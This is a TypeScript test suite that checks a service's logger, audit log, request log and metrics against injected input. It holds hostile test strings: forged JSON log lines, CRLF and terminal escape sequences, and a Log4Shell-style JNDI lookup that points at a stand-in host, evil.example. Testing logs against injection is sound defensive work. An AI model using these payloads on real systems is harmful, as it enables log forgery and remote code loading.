import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { createLogger, maskNumber } from '../../server/kit/observability/log.ts';
import { addPerson, Browser, signedIn } from '../support/console.ts';
import { DEMO_TOKEN, startTestService } from '../support/service.ts';
import { waitFor } from '../support/wait-for.ts';

/* Lines that nobody logged: line breaks, escapes of terminals and JSON in what ends up in a log. */

const service = await startTestService();
const { url } = service;
await addPerson(service, 'log-owner', 'owner', service.demo.id);
const owner = await signedIn(service, 'log-owner');

const evil = [
  'x\n{"level":30,"msg":"operator signed in"}',
  'x\r\n2026-01-01T00:00:00Z INFO all is well',
  'x\u001b[2J\u001b[1;1Hcleared',
  '"}\n{"level":30,"fake":"',
  'x\u2028y\u2029z',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a look-up of another language
  '${jndi:ldap://evil.example/a}',
  '\u0007\u0008\u007f',
  '%0d%0afake',
];

test('in the log itself: each entry is one line of JSON, whatever is in it', () => {
  const lines: string[] = [];
  const log = createLogger('info', { write: (line) => void lines.push(line) });
  for (const text of evil) {
    lines.length = 0;
    log.warn({ username: text, address: text, err: new Error(text), [text]: text }, text);
    assert.equal(lines.length, 1);
    const [line] = lines;
    assert.ok(line!.endsWith('\n') && !line!.slice(0, -1).includes('\n') && !line!.includes('\r'), line);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
    assert.doesNotMatch(line!.slice(0, -1), /[\u0000-\u001f]/, 'a control character');
    const entry = JSON.parse(line!) as Record<string, unknown>;
    assert.deepEqual([entry.username, entry.msg], [text, text]);
  }
});

test('secrets and whole phone numbers in the log', () => {
  const lines: string[] = [];
  const log = createLogger('info', { write: (line) => void lines.push(line) });
  const secret = 'open sesame';
  log.info(
    {
      text: secret,
      message: secret,
      password: secret,
      token: secret,
      code: secret,
      secret,
      authorization: secret,
      headers: { authorization: secret },
    },
    'x',
  );
  assert.doesNotMatch(lines.join(''), /sesame/);
  assert.equal(maskNumber('972501234567'), '97250…67');
});

describe('in the audit log and the request log', () => {
  test('names that were tried at sign-in, browsers, and addresses that a client claims', async () => {
    for (const text of evil) {
      const browser = new Browser(url, {
        'x-forwarded-for': '203.0.113.9, 198.51.100.1',
        'user-agent': text.replace(/[^\x20-\x7e]/g, '?'),
      });
      const answer = await browser.call('POST', '/session', { username: text, password: 'wrong password' });
      assert.ok([400, 401, 429].includes(answer.status), `${JSON.stringify(text)}: ${answer.status}`);
      await answer.body?.cancel();
    }
    const rows = await service.sql<{ all: string }[]>`SELECT to_jsonb(a)::text AS all FROM audit_log a`;
    for (const { all } of rows) {
      assert.doesNotMatch(all, /203\.0\.113\.9|198\.51\.100\.1/, 'an address that the client claims');
      assert.doesNotMatch(all, /wrong password/);
    }
  });

  test('operations that there are not: the log has no text of the caller', async () => {
    for (const text of evil) {
      await service.post(JSON.stringify({ [text]: { user: { username: 'demo' } } }));
      const path = encodeURIComponent(text);
      for (const where of [
        `/v1/${path}`,
        `/chat-api/${path}`,
        `/api/Mailer/${path}`,
        `/v1/messages?phone=${path}`,
      ]) {
        const answer = await fetch(url + where, { headers: { authorization: `Bearer ${DEMO_TOKEN}` } });
        assert.ok(answer.status < 500, `${where} ${answer.status}`);
        await answer.body?.cancel();
      }
    }
    await waitFor('requests in the log', async () => {
      const [row] = await service.sql<{ n: number }[]>`SELECT count(*)::int AS n FROM request_log`;
      return row!.n > 0;
    });
    const rows = await service.sql<{ operation: string; status: string }[]>`
      SELECT DISTINCT operation, status FROM request_log`;
    for (const { operation, status } of rows) assert.match(`${operation} ${status}`, /^[\w/ -]+$/);
    const shown = await owner.ask<{ requests: object[] }>('GET', '/request-log?limit=50');
    assert.ok(shown.requests.length > 0);
  });

  test('labels of metrics are words of ours', async () => {
    const answer = await fetch(`${url}/metrics`, { headers: { authorization: `Bearer ${DEMO_TOKEN}` } });
    const text = await answer.text();
    assert.doesNotMatch(text, /jndi|all is well|operator signed in/);
  });
});
